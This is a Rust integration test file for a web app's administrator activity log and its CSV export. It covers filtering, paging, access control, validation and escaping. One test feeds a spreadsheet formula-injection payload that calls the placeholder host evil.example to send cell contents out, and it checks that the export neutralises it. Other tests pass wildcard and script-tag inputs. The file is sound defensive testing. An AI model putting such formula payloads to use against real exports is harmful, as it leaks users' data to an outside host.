//! The whole site's activity, for its administrators.

use axum::{body::Body, http::Request};
use http_body_util::BodyExt;
use portaria::{
    accounts::activity::{Entry, Event},
    db::{self, schema::activity},
    domain::{Author, Moment, Role, Visitor},
};
use reqwest::Method;
use scraper::{Html, Selector};
use tower::ServiceExt;

use crate::support::{Answer, Browser, Change, Here, PASSWORD, SECRET_KEY, TestSite, code};

/// Adds rows: enough of them, of days long past and from many addresses.
async fn log(site: &TestSite, rows: Vec<Entry>) {
    use diesel::prelude::*;
    let insert = move |db: &mut db::Conn| -> db::Result<()> {
        for row in rows {
            diesel::insert_into(activity::table)
                .values((
                    activity::id.eq(row.id),
                    activity::at.eq(row.at),
                    activity::user_id.eq(row.user_id),
                    activity::by_user.eq(row.by_user),
                    activity::what.eq(row.what),
                    activity::ip.eq(row.ip),
                    activity::agent.eq(row.agent),
                    activity::reference.eq(row.reference),
                ))
                .execute(db)?;
        }
        Ok(())
    };
    site.app.db().write(insert).await.unwrap();
}

/// The `n`th row of a day. Its id is made here: those that a process makes itself never go back.
fn entry(day: &str, n: u16, account: Option<&str>, kind: Event, ip: &str) -> Entry {
    let at = Moment::of_day(day).unwrap().millis();
    let mut bytes = [0; 10];
    bytes[0..2].copy_from_slice(&(n & 0xfff).to_be_bytes());
    bytes[2..4].copy_from_slice(&(n >> 12).to_be_bytes());
    let millis = u64::try_from(at).unwrap();
    let id = uuid::Builder::from_unix_timestamp_millis(millis, &bytes).into_uuid();
    Entry {
        id: id.to_string(),
        at,
        user_id: account.map(str::to_owned),
        username: None,
        by_user: account.map(str::to_owned),
        by_username: None,
        what: kind.as_str().to_owned(),
        ip: ip.to_owned(),
        agent: String::new(),
        reference: None,
    }
}

fn query(pairs: &[(&str, &str)]) -> String {
    form_urlencoded::Serializer::new("?".to_owned()).extend_pairs(pairs).finish().replace("?&", "?")
}

/// The lines of a file but the first, cell by cell.
async fn file(browser: &Browser, pairs: &[(&str, &str)]) -> Vec<Vec<String>> {
    let path = format!("/admin/activity.csv{}", query(pairs));
    let answer = browser.get(&path).await.is(200);
    cells(&answer.body)
}

fn cells(text: &str) -> Vec<Vec<String>> {
    let lines: Vec<_> = text.strip_suffix("\r\n").unwrap().split("\r\n").collect();
    let head =
        "\"at\",\"what\",\"user_id\",\"username\",\"by_user\",\"ip\",\"agent\",\"reference\"";
    assert_eq!(lines[0], head);
    let inner = |line: &str| line.strip_prefix('"').unwrap().strip_suffix('"').unwrap().to_owned();
    lines[1..].iter().map(|line| inner(line).split("\",\"").map(str::to_owned).collect()).collect()
}

fn links(site: &TestSite, page: &Answer, selector: &str) -> Vec<String> {
    let html = Html::parse_document(&page.body);
    let all = Selector::parse(selector).unwrap();
    let hrefs = html.select(&all).map(|link| link.value().attr("href").unwrap());
    hrefs.map(|href| href.strip_prefix(&site.prefix).unwrap().to_owned()).collect()
}

#[tokio::test]
async fn an_administrator_sees_what_happened_to_whom_and_whose_doing_it_was() {
    let site = TestSite::open().await;
    let grace = site.admin("grace").await;
    for name in ["ada", "eve"] {
        site.user(name).await;
    }
    let refused = site.anonymous().sign_in("nobody", PASSWORD).await;
    let visitor = Visitor::new(Some([203, 0, 113, 7].into()), "curl/8.5.0", Vec::new());
    let id = site.db_user("grace").await.id;
    let by_grace = || Author::Administrator(id, visitor.clone());
    site.change_by(by_grace(), "ada", Change::Role(Role::Admin)).await;
    site.change("ada", Change::SignOut).await;
    site.change_by(by_grace(), "eve", Change::Delete).await;
    let page = grace.open("/profile").await.sees("Site activity").browser;
    let page = page.open("/admin/activity").await.is(200);
    let page = page
        .sees("Account deleted By grace Deleted account")
        .sees("Signed out everywhere By the operator of this site ada 1 January 2026")
        .sees("Role changed By grace ada 1 January 2026, 00:10 UTC · curl · 203.0.113.7")
        .sees("Sign-in refused: nobody has that name Not signed in 1 January 2026")
        .sees(&format!("· 127.0.0.1 · Code {}", refused.reference()))
        .sees("Signed in grace 1 January");
    let text = page.text();
    let place = |words: &str| text.rfind(words).unwrap();
    assert!(place("Account deleted By") < place("Role changed By"), "{text}");
    let ada = site.db_user("ada").await.id;
    assert!(links(&site, &page, ".list a").contains(&format!("/admin/users/{ada}")));
    assert!(page.body.contains("<bdi>ada</bdi>"));
}

/// On each of three days, for each of two accounts, one that is gone and nobody, each of three kinds
/// from each of two addresses. The agent says which row it is.
async fn many(site: &TestSite) -> Vec<Entry> {
    let ada = site.db_insert("ada", Some("ada@example.com"), Role::User).await.id.to_string();
    let bob = site.db_insert("bob", None, Role::User).await.id.to_string();
    let accounts = [Some(&*ada), Some(&*bob), Some("019b0000-0000-7000-8000-000000000000"), None];
    let mut rows = Vec::new();
    for day in ["2025-03-01", "2025-03-02", "2025-03-03"] {
        for account in accounts {
            for kind in [Event::SignedIn, Event::WrongPassword, Event::SignedOut] {
                for ip in ["203.0.113.7", "2001:db8::7"] {
                    let n = u16::try_from(rows.len()).unwrap();
                    let refused = kind == Event::WrongPassword;
                    rows.push(Entry {
                        agent: format!("row{n}"),
                        reference: refused.then(|| format!("0000-{n:04}")),
                        ..entry(day, n, account, kind, ip)
                    });
                }
            }
        }
    }
    log(site, rows.clone()).await;
    rows.reverse();
    rows
}

#[tokio::test]
async fn all_that_is_looked_for_must_fit() {
    let site = TestSite::open().await;
    let grace = site.admin("grace").await;
    let rows = many(&site).await;
    let ada = Some(site.db_user("ada").await.id.to_string());
    let filters: [(&str, &[&str]); 6] = [
        ("account", &["", " ADA ", "Ada@example.com"]),
        ("kind", &["", "signed-in", "wrong-password"]),
        ("address", &["", "::ffff:203.0.113.7", "2001:DB8:0:0::7"]),
        ("from", &["", "2025-03-02"]),
        ("to", &["2025-03-02", "2025-03-03"]),
        ("code", &["", "oooo-oo2l", "00000008"]),
    ];
    let mut searches = vec![Vec::new()];
    for (name, values) in filters {
        let with = |search: &Vec<_>| {
            values.iter().map(|value| [&search[..], &[(name, *value)]].concat()).collect::<Vec<_>>()
        };
        searches = searches.iter().flat_map(with).collect();
    }
    let mut some = 0;
    for search in searches {
        let is_open = |n: usize| search[n].1.is_empty();
        let is_day = |day| Moment::of_day(day).unwrap().millis();
        let fits = |row: &&Entry| {
            (is_open(0) || row.user_id == ada)
                && (is_open(1) || row.what == search[1].1)
                && (is_open(2)
                    || row.ip
                        == if search[2].1.ends_with("113.7") {
                            "203.0.113.7"
                        } else {
                            "2001:db8::7"
                        })
                && (is_open(3) || row.at >= is_day("2025-03-02"))
                && row.at <= is_day(search[4].1)
                && (is_open(5)
                    || row.reference.as_deref()
                        == Some(if search[5].1.ends_with('l') { "0000-0021" } else { "0000-0008" }))
        };
        let expected: Vec<_> = rows.iter().filter(fits).map(|row| &row.agent).collect();
        let found = file(&grace, &search).await;
        assert_eq!(found.iter().map(|cells| &cells[6]).collect::<Vec<_>>(), expected, "{search:?}");
        some += usize::from(!found.is_empty());
    }
    assert!(some > 60, "{some}");
}

#[tokio::test]
async fn the_form_keeps_what_is_looked_for_and_so_do_the_links() {
    let site = TestSite::open().await;
    let grace = site.admin("grace").await;
    let ada = site.db_insert("ada", Some("ada@example.com"), Role::User).await.id.to_string();
    let row = |n| entry("2025-03-01", n, Some(&ada), Event::SignedIn, "203.0.113.7");
    let others = (0..60).map(|n| entry("2025-03-02", n, None, Event::UnknownName, "203.0.113.8"));
    log(&site, (0..120).map(row).chain(others).collect()).await;
    let page = grace.open("/admin/activity").await;
    let form = page.form("search").fill("account", "ada@example.com").fill("kind", "signed-in");
    let form = form.fill("address", "203.0.113.7").fill("from", "2025-03-01");
    let mut page = form.fill("to", "2025-03-01").submit().await.is(200).sees_no("Newest activity");
    let mut counts = Vec::new();
    let mut seen = std::collections::HashSet::new();
    loop {
        let form = page.form("search");
        assert_eq!((form.value("account"), form.value("kind")), ("ada@example.com", "signed-in"));
        assert_eq!((form.value("from"), form.value("to")), ("2025-03-01", "2025-03-01"));
        assert_eq!(form.value("address"), "203.0.113.7");
        let csv = &links(&site, &page, "a[href*=csv]")[0];
        assert!(csv.ends_with(
            "?account=ada%40example.com&kind=signed-in&address=203.0.113.7&from=2025-03-01&to=2025-03-01"
        ));
        assert_eq!(cells(&grace.get(csv).await.is(200).body).len(), 120);
        counts.push(page.body.matches("<time ").count());
        let Some(older) = links(&site, &page, "a[rel=next]").pop() else { break };
        assert!(seen.insert(older.clone()));
        page = grace.get(&older).await.is(200).sees("Newest activity");
    }
    assert_eq!(counts, [50, 50, 20]);
    let all =
        links(&site, &page, ".aside a").into_iter().find(|link| link == "/admin/activity").unwrap();
    grace.get(&all).await.is(200).sees("nobody has that name").sees_no("Show everything");
    let nothing = grace.get("/admin/activity?kind=closed").await.is(200).sees("Nothing was found.");
    assert_eq!(nothing.body.matches("<time ").count(), 0);
}

#[tokio::test]
async fn nothing_that_is_typed_is_a_pattern() {
    let site = TestSite::open().await;
    let grace = site.admin("grace").await;
    for name in ["a_b", "axb"] {
        site.user(name).await;
    }
    let found = file(&grace, &[("account", "a_b")]).await;
    assert!(found.len() == 2 && found.iter().all(|cells| cells[3] == "a_b"), "{found:?}");
    for name in ["%", "a%", "_xb", "a\\_b", "a'b", "", "\0"] {
        let page = grace.get(&format!("/admin/activity{}", query(&[("account", name)]))).await;
        let unknown = !name.is_empty();
        let page = page.is(200);
        assert_eq!(page.error_of("account") == "No account has that name", unknown, "{name:?}");
        assert_eq!(page.body.contains("<time "), !unknown, "{name:?}");
    }
    for (field, text) in [
        ("address", "127.0.0.%"),
        ("address", "127.0.0._"),
        ("kind", "signed-%"),
        ("code", "%%%%%%%%"),
        ("from", "2026-01-__"),
    ] {
        grace.get(&format!("/admin/activity{}", query(&[(field, text)]))).await.is(422);
    }
}

#[tokio::test]
async fn what_cannot_be_looked_for_is_told_beside_its_field() {
    let site = TestSite::open().await;
    let grace = site.admin("grace").await;
    let day = "Enter a day like 2026-01-31";
    let address = "Enter an IP address like 203.0.113.7 or 2001:db8::7";
    let cases = [
        ("kind", "signed_in", "Choose what happened from the list"),
        ("kind", "SIGNED-IN", "Choose what happened from the list"),
        ("address", "203.0.113", address),
        ("address", "203.0.113.7:80", address),
        ("address", "[2001:db8::7]", address),
        ("address", "<script>", address),
        ("from", "yesterday", day),
        ("from", "2026-02-30", day),
        ("to", "01/02/2026", day),
        ("to", "2026-1-2", day),
        ("code", "8F2K", "Enter a code of eight letters and digits, like 8F2K-QX41"),
    ];
    for (field, text, sentence) in cases {
        for path in ["/admin/activity", "/admin/activity.csv"] {
            let page = grace.get(&format!("{path}{}", query(&[(field, text)]))).await.is(422);
            assert_eq!(page.error_of(field), sentence, "{text}");
            assert!(page.header("content-type").starts_with("text/html"));
            assert!(!page.body.contains("<time ") && page.body.contains("<details open>"));
            // A browser's field for days would forget what is none.
            let is_kept = page.body.contains(&format!("type=\"text\" id=\"{field}\""));
            assert!(is_kept || field == "kind", "{field}");
            if field != "kind" {
                assert_eq!(page.form("search").value(field), text);
            }
        }
    }
    let days =
        [("from", "2026-01-02"), ("to", "2026-01-01"), ("address", "x"), ("account", "nobody")];
    let page = grace.get(&format!("/admin/activity{}", query(&days))).await.is(422);
    assert_eq!(page.error_of("to"), "Choose a last day that is not before the first");
    assert_eq!((page.error_of("address"), page.error_of("from")), (address.into(), String::new()));
    assert_eq!(page.error_of("account"), "No account has that name");
    // A file of nothing would deceive a script.
    grace.get("/admin/activity.csv?account=nobody").await.is(422);
    for forged in [
        "x",
        "%00",
        "'",
        "019b0000",
        "019B0000-0000-7000-8000-000000000000",
        "{019b0000-0000-7000-8000-000000000000}",
    ] {
        for path in ["/admin/activity", "/admin/activity.csv"] {
            let page = grace.get(&format!("{path}?before={forged}")).await;
            assert_eq!(page.status, 422, "{forged}");
            page.sees("There is a problem This page of the list does not exist.")
                .sees("Newest activity");
        }
    }
    grace.get("/admin/activity?kind=closed&kind=closed").await.is(400);
    grace.get("/admin/activity?account=%ff").await.is(400);
    let odd = "/admin/activity?role=admin&id=1&is_admin=on&unheard=of";
    grace.get(odd).await.is(200).sees("Signed in");
}

#[tokio::test]
async fn only_an_administrator_enters() {
    let site = TestSite::open().await;
    let ada = site.user("ada").await;
    site.admin("grace").await;
    for path in ["/admin/activity", "/admin/activity.csv"] {
        ada.get(path).await.is(403).sees_no("grace");
        site.change("ada", Change::Role(Role::Admin)).await;
        ada.get(path).await.is(200);
        site.change("ada", Change::Role(Role::User)).await;
        ada.get(path).await.is(403);
        let away = site.anonymous().get(path).await;
        away.leads_to(&format!("/login?next={}{path}", site.prefix));
    }
    ada.open("/profile").await.sees_no("Site activity");
}

#[tokio::test]
async fn the_file_is_one_that_a_spreadsheet_can_take() {
    let site = TestSite::open().await;
    let grace = site.admin("grace").await;
    let attack = "=HYPERLINK(\"https://evil.example/?\"&A1;\"Open\");=1+1";
    let headers = [("user-agent", attack), ("content-type", "application/x-www-form-urlencoded")];
    let sign_up = format!("username=eve&password={}", PASSWORD.replace(' ', "+"));
    let post = site.anonymous().send(Method::POST, "/signup", &headers, sign_up.into()).await;
    post.is(303);
    let eve = site.db_user("eve").await.id;
    let answer = grace.get("/admin/activity.csv?account=eve&kind=signed-up").await.is(200);
    assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8; header=present");
    let name = "attachment; filename=\"activity-2026-01-01.csv\"";
    assert_eq!(answer.header("content-disposition"), name);
    assert_eq!(answer.header("cache-control"), "no-store");
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    let row = "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1;\"\"Open\"\");'=1+1\"";
    let text = format!(
        "\"at\",\"what\",\"user_id\",\"username\",\"by_user\",\"ip\",\"agent\",\"reference\"\\r\\n\
         \"2026-01-01T00:10:00Z\",\"signed-up\",\"{eve}\",\"eve\",\"{eve}\",\"127.0.0.1\",{row},\"\"\\r\\n"
    );
    assert_eq!(answer.body, text.replace("\\r\\n", "\r\n"));
    let mut cells = entry("2025-03-01", 0, None, Event::UnknownName, "\t=1");
    cells.agent = "\r\n@SUM(A1)".to_owned();
    log(&site, vec![cells]).await;
    let answer = grace.get("/admin/activity.csv?to=2025-12-31").await.is(200);
    assert!(answer.body.contains("\"'\t'=1\",\"'\r'\n'@SUM(A1)\""), "{:?}", answer.body);
    let none = grace.get("/admin/activity.csv?kind=closed").await.is(200);
    assert_eq!(none.body.matches("\r\n").count(), 1);
}

#[tokio::test]
async fn a_long_file_comes_whole_and_in_order() {
    let site = TestSite::open().await;
    let grace = site.admin("grace").await;
    let row = |n| Entry {
        agent: format!("row{n}"),
        ..entry("2025-03-01", n, None, Event::UnknownName, "203.0.113.7")
    };
    log(&site, (0..2_000).map(row).collect()).await;
    let answer = grace.get("/admin/activity.csv?kind=unknown-name").await.is(200);
    assert_eq!(answer.header("content-length"), "", "it is not held in memory");
    let expected: Vec<_> = (0..2_000).rev().map(|n| format!("row{n}")).collect();
    let found: Vec<_> = cells(&answer.body).into_iter().map(|mut cells| cells.remove(6)).collect();
    assert_eq!(found, expected);
    let mut frames = frames(&site, &grace).await;
    let mut lines = 0;
    while let Some(frame) = frames.frame().await {
        lines += String::from_utf8_lossy(&frame.unwrap().into_data().unwrap()).lines().count();
    }
    assert!(lines > 2_000);
    assert!(frames.frame().await.is_none(), "what is around a body may ask once more");
    let head = grace.request(Method::HEAD, "/admin/activity.csv", "").await.is(200);
    assert!(head.body.is_empty() && head.header("content-type").starts_with("text/csv"));
    // Whoever goes away early leaves nothing behind.
    for _ in 0..20 {
        drop(grace.request(Method::HEAD, "/admin/activity.csv", "").await);
    }
    assert_eq!(site.app.db().usage()[0].1, 0);
}

/// The body of the whole file, which nobody has read yet.
async fn frames(site: &TestSite, browser: &Browser) -> Body {
    let path = format!("{}/admin/activity.csv", site.prefix);
    let request = Request::get(path).header("host", "x").header("cookie", browser.cookie_header());
    let request = request.body(Body::empty()).unwrap();
    portaria::router::site(&site.app).oneshot(request).await.unwrap().into_body()
}

#[tokio::test]
async fn a_file_that_breaks_off_is_not_taken_for_a_whole_one() {
    use diesel::connection::SimpleConnection;
    let site = TestSite::open().await;
    let grace = site.admin("grace").await;
    let row = |n| entry("2025-03-01", n, None, Event::UnknownName, "203.0.113.7");
    log(&site, (0..1_000).map(row).collect()).await;
    let mut frames = frames(&site, &grace).await;
    frames.frame().await.unwrap().unwrap();
    let take_away = |db: &mut db::Conn| -> db::Result<()> {
        Ok(db.batch_execute("ALTER TABLE activity RENAME TO away")?)
    };
    site.app.db().write(take_away).await.unwrap();
    assert!(frames.frame().await.unwrap().is_err());
    assert!(frames.frame().await.is_none());
    grace.get("/admin/activity.csv").await.is(500).sees("there is a problem on our side");
}

#[tokio::test]
async fn the_shell_finds_what_the_page_finds() {
    let site = TestSite::open().await;
    let grace = site.admin("grace").await;
    many(&site).await;
    let here = Here::new();
    let run = |arguments: &[&str]| {
        let mut command = here.command(&[&["activity"], arguments].concat());
        command.env("PORTARIA_DATABASE_URL", &site.database.url);
        let output = command.env("PORTARIA_SECRET_KEY", SECRET_KEY).output().unwrap();
        let (status, told) = code(&output);
        (status.unwrap(), String::from_utf8(output.stdout).unwrap(), told)
    };
    for search in [
        &[][..],
        &[("account", "ada")],
        &[("account", "ada@example.com"), ("kind", "wrong-password")],
        &[("address", "2001:DB8:0::7"), ("from", "2025-03-02"), ("to", "2025-03-02")],
        &[("code", "0000-0020")],
        &[
            ("account", "bob"),
            ("kind", "signed-out"),
            ("address", "203.0.113.7"),
            ("to", "2025-03-01"),
        ],
    ] {
        let mut arguments = vec!["--csv".to_owned()];
        for (name, text) in search {
            match *name {
                "code" => arguments.push((*text).to_owned()),
                "account" => arguments.push(format!("--user={text}")),
                name => arguments.push(format!("--{name}={text}")),
            }
        }
        let arguments: Vec<_> = arguments.iter().map(String::as_str).collect();
        let page = grace.get(&format!("/admin/activity.csv{}", query(search))).await.is(200);
        assert_eq!(run(&arguments), (0, page.body.clone(), String::new()), "{search:?}");
        let json: Vec<serde_json::Value> =
            serde_json::from_str(&run(&[&["--json"], &arguments[1..]].concat()).1).unwrap();
        assert_eq!(json.len(), cells(&page.body).len());
    }
    assert_eq!(cells(&run(&["--csv", "--limit", "7"]).1).len(), 7);
    assert_eq!(run(&["--limit", "7"]).1.lines().count(), 8);
    assert_eq!(run(&["--kind", "closed", "--json"]).1, "[]\n");
    for (arguments, sentence) in [
        (&["--user", "nobody"][..], "No account has that name"),
        (&["--address", "x"], "Enter an IP address like"),
        (&["--from", "yesterday"], "Enter a day like 2026-01-31"),
        (&["--from", "2026-01-02", "--to", "2026-01-01"], "Choose a last day"),
        (&["8F2K"], "Enter a code of eight letters and digits"),
        (&["--kind", "closing"], "password-link-used"),
        (&["--limit", "0"], "limit"),
        (&["--json", "--csv"], "--csv"),
    ] {
        let (status, out, told) = run(arguments);
        assert_eq!((status, out.as_str()), (2, ""), "{arguments:?}");
        assert!(told.contains(sentence), "{told}");
    }
}
